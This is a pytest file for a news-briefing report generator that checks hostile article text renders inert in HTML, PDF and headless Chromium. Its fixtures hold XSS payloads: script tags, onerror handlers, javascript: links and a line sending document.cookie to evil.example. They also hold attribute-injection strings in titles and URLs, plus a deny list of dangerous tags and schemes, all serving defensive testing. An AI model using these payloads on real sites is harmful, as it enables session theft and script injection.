"""Hostile article text renders inert; the briefing loads in a real headless Chromium."""

from __future__ import annotations

import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from newsbrief.params import load_params
from newsbrief.render.report import run_report

pytestmark = pytest.mark.slow

HOSTILE = """<script>alert('title')</script> Minister <img src=x onerror=alert(1)> quits

Minister Anna Berg said on Monday: "<script>document.location='http://evil.example/'+document.cookie</script> I quit."

"Read <a href="javascript:alert(2)">this</a> now," Berg told reporters in Oslo.

The opposition leader Per Holm said the <iframe src="javascript:alert(3)"></iframe> resignation was overdue.
"""


@pytest.fixture(scope="module")
def hostile_run(root: Path, tmp_path_factory: pytest.TempPathFactory):
    work = tmp_path_factory.mktemp("hostile")
    article = work / "hostile.txt"
    article.write_text(HOSTILE, encoding="utf-8")
    params = load_params(root / "params" / "seed-article.yaml", overrides=[f"input={article}", "name=hostile"])
    return run_report(params, output_dir=work / "reports")


class _Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's parser sees them (text stays text)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def test_no_executable_markup_in_html(hostile_run) -> None:
    markup = hostile_run.html.read_text(encoding="utf-8")
    parser = _Elements()
    parser.feed(markup)
    tags = {tag for tag, _ in parser.tags}
    assert not tags & {"script", "iframe", "object", "embed", "base", "form"}
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            if name in ("href", "src", "action") and value:
                assert not value.strip().lower().startswith(("javascript:", "vbscript:", "data:text")), (tag, value)
    # The hostile strings are shown as text, whole: nothing of them is cut.
    assert "&lt;script&gt;" in markup
    assert "onerror=alert(1)" in markup and 'src="javascript:alert(3)"' in markup
    assert '<meta charset="utf-8"' in markup


def test_pdf_renders(hostile_run) -> None:
    assert hostile_run.pdf.read_bytes().startswith(b"%PDF")


def _chromium() -> str:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        path = shutil.which(name)
        if path:
            return path
    pytest.skip("no Chromium on this machine (.ci/run installs Debian's chromium package)")


@pytest.fixture(scope="module")
def seed_html(seed_run) -> Path:
    return seed_run.html


PROBE = """
<script>
window.addEventListener('load', () => {
  const imgs = Array.from(document.images);
  const broken = imgs.filter(i => !(i.complete && i.naturalWidth > 0)).length;
  const doc = document.documentElement;
  const overflow = Math.max(doc.scrollWidth, document.body.scrollWidth) - window.innerWidth;
  document.title = `PROBE images=${imgs.length} broken=${broken} overflow=${overflow}`;
});
</script>
"""


def test_seen_in_headless_chromium(seed_html: Path, tmp_path: Path) -> None:
    chromium = _chromium()
    # The briefing has no scripts; a copy with a probe script reports what the browser measured.
    probe = tmp_path / "probe.html"
    probe.write_text(seed_html.read_text(encoding="utf-8").replace("</body>", PROBE + "</body>"), encoding="utf-8")
    flags = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-quic",
             f"--user-data-dir={tmp_path / 'profile'}",
             "--window-size=700,1200", "--hide-scrollbars", "--virtual-time-budget=5000"]
    shot = tmp_path / "briefing.png"
    subprocess.run([*flags, f"--screenshot={shot}", seed_html.as_uri()], check=True, capture_output=True, timeout=120)
    assert shot.is_file() and shot.stat().st_size > 10_000
    dom = subprocess.run([*flags, "--dump-dom", probe.as_uri()], check=True, capture_output=True, text=True,
                         timeout=120).stdout
    match = re.search(r"PROBE images=(\d+) broken=(\d+) overflow=(-?\d+)", dom)
    assert match, "the probe did not run"
    images, broken, overflow = map(int, match.groups())
    assert images >= 1  # the article briefing: its tone row (entities and speakers are tables)
    assert broken == 0
    assert overflow <= 0, f"horizontal overflow of {overflow}px at 700px"


# Titles and URLs that a regex "cleaner" once cut (issue 16, item 2): shown whole, no row lost.
HOSTILE_TITLES = ("Minister onerror=x quits", "<script>alert(1)</script> Budget passes",
                  'Talks resume " once=" in Oslo')
HOSTILE_URLS = ('https://example.org/a" onx=y"', "https://example.org/b", 'https://example.org/c?q=" once="')
BRIEFING_TITLE = 'Briefing onerror=x <script>alert(1)</script> " once="'
BODY = ("Minister Anna Berg said on Monday that the government would present a new budget in Oslo. "
        "The opposition leader Per Holm said the plan was late and that voters deserved better. "
        "Economists at the central bank said growth would slow next year, while unions asked for higher wages. "
        "Berg told reporters the talks with the unions would resume on Friday. ") * 2

TEXT_PROBE = """
<script>
window.addEventListener('load', () => {
  const expected = EXPECTED;
  const text = document.body.innerText;
  const found = expected.map(s => text.includes(s));
  const odd = Array.from(document.querySelectorAll('*')).filter(
    e => Array.from(e.attributes).some(a => a.name === 'onx' || a.name === 'once' || a.name.startsWith('on'))).length;
  const rows = document.querySelectorAll('a[href^="https://example.org/"]').length;
  document.title = 'PROBE ' + JSON.stringify({title: document.title, found: found, odd: odd, rows: rows});
});
</script>
"""


@pytest.fixture(scope="module")
def hostile_titles_run(root: Path, tmp_path_factory: pytest.TempPathFactory):
    import json

    work = tmp_path_factory.mktemp("hostile-titles")
    table = work / "articles.jsonl"
    with table.open("w", encoding="utf-8") as f:
        for n, (title, url) in enumerate(zip(HOSTILE_TITLES, HOSTILE_URLS)):
            f.write(json.dumps({"article_id": f"a{n}", "title": title, "url": url, "source": f"site{n}.example",
                                "published": f"2021-04-0{n + 1}", "text": f"{BODY} Story number {n}."}) + "\n")
    params = load_params(root / "params" / "seed-article.yaml",
                         overrides=[f"input={table}", "name=hostile-titles", "mode=corpus", f"title={BRIEFING_TITLE}"])
    return run_report(params, output_dir=work / "reports")


def test_hostile_titles_and_urls_are_all_visible_in_chromium(hostile_titles_run, tmp_path: Path) -> None:
    import json

    chromium = _chromium()
    expected = [BRIEFING_TITLE, *HOSTILE_TITLES]

    def probe(page: Path, name: str) -> dict:
        target = tmp_path / name
        script = TEXT_PROBE.replace("EXPECTED", json.dumps(expected).replace("<", "\\u003c"))
        target.write_text(page.read_text(encoding="utf-8").replace("</body>", script + "</body>"), encoding="utf-8")
        flags = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-quic",
                 f"--user-data-dir={tmp_path / 'profile'}", "--window-size=900,1200", "--virtual-time-budget=5000"]
        dom = subprocess.run([*flags, "--dump-dom", target.as_uri()], check=True, capture_output=True, text=True,
                             timeout=120).stdout
        match = re.search(r"<title>PROBE (.*?)</title>", dom, re.S)
        assert match, f"the probe did not run: {page.name} did not load as a page"
        import html as html_lib

        return json.loads(html_lib.unescape(match.group(1)))

    briefing = probe(hostile_titles_run.html, "probe-briefing.html")
    assert briefing["title"] == BRIEFING_TITLE  # the <title> element was not eaten
    assert briefing["odd"] == 0  # no event-handler attribute made it into the page
    # The corpus briefing lists the articles behind its findings; the appendix lists them all.
    appendix = probe(hostile_titles_run.html.parent / "appendix.html", "probe-appendix.html")
    assert dict(zip(expected[1:], appendix["found"][1:])) == {s: True for s in HOSTILE_TITLES}  # every title, whole
    assert appendix["odd"] == 0
    assert appendix["rows"] >= len(HOSTILE_URLS)  # each article's link is there: no row dropped
    # The PDF has the same words.
    assert hostile_titles_run.pdf.read_bytes().startswith(b"%PDF")
